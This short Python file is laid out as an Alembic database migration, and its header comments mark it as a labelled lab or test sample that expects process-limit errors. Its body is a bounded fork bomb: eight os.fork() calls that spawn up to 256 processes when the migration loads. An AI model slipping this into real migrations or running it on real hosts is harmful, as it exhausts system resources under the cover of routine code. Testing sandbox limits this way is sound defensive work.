# Starts processes that start processes.
# lab: alembic-expand-contract
# honest: 0
# says: killed by a signal|of memory and was stopped|processes and was stopped|Resource temporarily unavailable|BlockingIOError
# series: full
import os
import time

revision, down_revision = "expand", None

for _ in range(8):  # 256 of them
    os.fork()
time.sleep(10)
